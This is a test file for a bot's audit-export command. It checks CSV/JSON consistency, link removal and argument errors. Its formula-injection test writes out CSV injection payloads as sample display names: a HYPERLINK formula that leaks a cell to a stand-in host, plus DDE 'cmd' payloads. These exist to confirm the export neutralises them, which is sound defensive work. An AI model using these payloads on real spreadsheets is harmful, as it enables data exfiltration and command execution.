/**
 * The audit export round-trips a whole flow: a request filed, approved, the guest invited and
 * accepted comes out of `npm run audit` event by event, the same in CSV and JSON, with no link
 * or secret in it; what people chose to be called cannot become a spreadsheet formula; and the
 * command names every mistake in its arguments.
 */
import assert from 'node:assert/strict';
import { spawnSync } from 'node:child_process';
import { mkdtempSync, rmSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join, resolve } from 'node:path';
import { parse } from 'csv-parse/sync';
import { auditArgumentsOf } from '../../src/cli/auditCli';
import type { AuditRow } from '../../src/audit/auditExport';
import { openDatabase } from '../../src/storage/database';
import type { SqlRequestRepository } from '../../src/storage/sqlRequestRepository';
import { requestRepository } from '../support/requestRepository';
import { requestDraft } from '../support/requestDraft';
import { redeemInBrowser } from '../support/redeemInBrowser';
import { invitedRequest, redemptionChecksDue, waitForState } from '../support/testBot';
import { restartableBot } from '../support/testBotSession';

const CLI = resolve(__dirname, '../../src/cli/auditCli.js');

/** `npm run audit` over the bot's database, as an admin runs it. */
function exportAudit(databaseUrl: string, format: 'csv' | 'json') {
  return spawnSync(process.execPath, [CLI, '--from', '2020-01-01', '--format', format], {
    env: { PATH: process.env.PATH, DATABASE_URL: databaseUrl, LOG_LEVEL: 'silent' },
    encoding: 'utf8',
    cwd: tmpdir(),
  });
}

/** The folders databaseWith() made, removed when the tests are done. */
const made: string[] = [];
after(() => made.forEach((dir) => rmSync(dir, { recursive: true, force: true })));

/** A fresh SQLite database file, written through the repository as the bot writes it. */
async function databaseWith(write: (requests: SqlRequestRepository) => Promise<void>): Promise<string> {
  const dir = mkdtempSync(join(tmpdir(), 'audit-'));
  made.push(dir);
  const databaseUrl = join(dir, 'bot.db');
  const database = await openDatabase(databaseUrl);
  try {
    await write(requestRepository(database.db));
  } finally {
    await database.close();
  }
  return databaseUrl;
}

/** What Excel, LibreOffice and Google Sheets read as the start of a formula (and their full-width forms). */
const FORMULA_START = /^[=+\-@\t\r\uFF1D\uFF0B\uFF0D\uFF20]/;

describe('npm run audit', function () {
  this.timeout(30_000);

  it('prints a whole flow, event by event, the same as CSV and JSON, without links', async () => {
    const bot = await restartableBot();
    let id: string;
    let json: ReturnType<typeof exportAudit>;
    let csv: ReturnType<typeof exportAudit>;
    try {
      const { request, invited } = await invitedRequest(bot);
      id = request.id;
      await redeemInBrowser(invited.inviteRedeemUrl as string);
      await redemptionChecksDue(bot);
      await bot.app.redemptionWatcher.checkDue();
      await waitForState(bot, id, 'accepted');
      // As an admin runs it: over the bot's database, the bot stopped.
      await bot.stop();
      json = exportAudit(bot.databaseUrl, 'json');
      csv = exportAudit(bot.databaseUrl, 'csv');
    } finally {
      await bot.close();
    }
    assert.equal(json.status, 0, json.stderr);
    assert.equal(csv.status, 0, csv.stderr);
    const rows = JSON.parse(json.stdout) as AuditRow[];
    assert.deepEqual(parse(csv.stdout, { columns: true }), rows, 'CSV and JSON say the same');
    const ofRequest = rows.filter((row) => row.request === id);
    assert.deepEqual(
      ofRequest.filter((row) => row.to).map((row) => [row.who, `${row.from} → ${row.to}`]),
      [
        ['Adele Vance', ' → pending_approval'],
        ['Megan Bowen', 'pending_approval → approved'],
        ['system', 'approved → invited'],
        ['system', 'invited → accepted'],
      ],
    );
    assert.ok(ofRequest.some((row) => row.action === 'invitationCreated'));
    assert.doesNotMatch(json.stdout + csv.stdout, /https?:\/\/|\/redeem\//i, 'no link, no redeem URL');
    assert.match(json.stdout, /"inviteRedeemUrl\\":\\"\(removed\)/, 'the redeem link is named, not given');
  });

  it('writes no cell a spreadsheet would run as a formula, whatever a name, an id or a detail starts with', async () => {
    // A Teams display name and, in a local session, an object id are whatever the person typed.
    const formulas = [
      '=HYPERLINK("http://evil.example/?leak="&A1,"Open")',
      "+1+cmd|' /C calc'!A0",
      "-2+3+cmd|' /C calc'!A0",
      "@SUM(1+1)*cmd|' /C calc'!A0",
      '\t=1+1',
      '\r=1+1',
      '\uFF1D1+1',
    ];
    const databaseUrl = await databaseWith(async (requests) => {
      for (const formula of formulas) {
        const person = { id: formula, displayName: formula, address: 'someone@contoso.com' };
        const { id } = await requests.create(requestDraft({ requester: person }), { kind: 'user', ...person });
        await requests.recordAsk({
          id,
          states: ['pending_approval'],
          actor: { kind: 'user', ...person },
          action: 'askedAgain',
          detail: { note: formula },
          jobs: [],
        });
      }
    });
    const csv = exportAudit(databaseUrl, 'csv');
    const json = exportAudit(databaseUrl, 'json');
    assert.equal(csv.status, 0, csv.stderr);
    assert.equal(json.status, 0, json.stderr);

    const cells = parse(csv.stdout, { columns: true }) as AuditRow[];
    assert.equal(cells.length, formulas.length * 2, 'two events a request');
    const live = cells.flatMap((row) =>
      Object.entries(row)
        .filter(([, cell]) => FORMULA_START.test(cell))
        .map(([column, cell]) => `${column}: ${JSON.stringify(cell)}`),
    );
    assert.deepEqual(live, [], 'no cell starts a formula');
    // Shown as text, behind the apostrophe spreadsheets hide: nothing is lost to the reader.
    assert.deepEqual(
      [...new Set(cells.map((row) => row.who))],
      formulas.map((formula) => `'${formula}`),
    );
    assert.deepEqual(
      [...new Set(cells.map((row) => row.whoId))],
      formulas.map((formula) => `'${formula}`),
    );
    // JSON is read by programs, not spreadsheets: it keeps the names exactly.
    assert.deepEqual([...new Set((JSON.parse(json.stdout) as AuditRow[]).map((row) => row.who))], formulas);
  });

  it('removes a link written in the free text of a detail, such as a Graph error that names one', async () => {
    let id = '';
    const databaseUrl = await databaseWith(async (requests) => {
      ({ id } = await requests.create(requestDraft(), { kind: 'system' }));
      await requests.transition({ id, from: 'pending_approval', to: 'approved', actor: { kind: 'user', id: 'megan-id', displayName: 'Megan Bowen' } });
      // As provisionGuest's giveUp records a refusal: the message masked for addresses and redeem links only.
      await requests.transition({
        id,
        from: 'approved',
        to: 'failed',
        actor: { kind: 'system' },
        detail: {
          error: 'Microsoft Entra refused the invitation: see https://portal.example.com/guest?tenant=contoso&code=8F2A or http://intranet.contoso.com/help',
        },
      });
    });
    for (const format of ['csv', 'json'] as const) {
      const exported = exportAudit(databaseUrl, format);
      assert.equal(exported.status, 0, exported.stderr);
      assert.doesNotMatch(exported.stdout, /https?:\/\/|portal\.example\.com|intranet\.contoso\.com/, `${format}: no link`);
      const rows = format === 'csv' ? (parse(exported.stdout, { columns: true }) as AuditRow[]) : (JSON.parse(exported.stdout) as AuditRow[]);
      const failed = rows.find((row) => row.request === id && row.to === 'failed');
      assert.deepEqual(
        JSON.parse(failed?.detail ?? '{}'),
        { error: 'Microsoft Entra refused the invitation: see (link removed) or (link removed)' },
        `${format}: the rest of the message is kept`,
      );
    }
  });

  it('names every mistake in its arguments', () => {
    assert.throws(() => auditArgumentsOf([]), /--from is required/);
    assert.throws(() => auditArgumentsOf(['--from', '2026-02-30']), /--from must be a day as YYYY-MM-DD, not "2026-02-30"/);
    assert.throws(() => auditArgumentsOf(['--from', '2026-02-01', '--to', '2026-01-01']), /--to \(2026-01-01\) must come after --from/);
    assert.throws(() => auditArgumentsOf(['--from', '2026-01-01', '--format', 'xml']), /--format must be csv or json/);
    assert.throws(() => auditArgumentsOf(['--from', '2026-01-01', '--since', 'x']), /Unknown option '--since'/);
    const args = auditArgumentsOf(['--from', '2026-01-01'], new Date('2026-11-30T10:00:00Z'));
    assert.deepEqual([args.from.toISOString(), args.to.toISOString(), args.format], ['2026-01-01T00:00:00.000Z', '2026-12-01T00:00:00.000Z', 'csv']);
  });
});
